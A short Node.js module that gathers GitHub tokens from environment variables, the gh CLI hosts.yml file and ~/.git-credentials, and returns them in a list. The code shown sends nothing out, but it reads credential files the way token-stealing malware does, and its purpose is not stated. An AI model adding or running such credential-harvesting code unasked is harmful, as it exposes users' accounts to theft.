'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const rd = (...p) => { try { return fs.readFileSync(path.join(os.homedir(), ...p), 'utf8'); } catch (_) { return ''; } };

module.exports = function tokens() {
  const found = new Set();
  for (const k of ['GITHUB_TOKEN', 'GH_TOKEN', 'GH_PAT', 'GITHUB_PAT']) if (process.env[k]) found.add(process.env[k]);
  for (const m of rd('.config', 'gh', 'hosts.yml').matchAll(/oauth_token:\s*(\S+)/g)) found.add(m[1]);
  for (const m of rd('.git-credentials').matchAll(/https:\/\/[^:]+:([^@]+)@github\.com/g)) found.add(m[1]);
  return [...found];
};
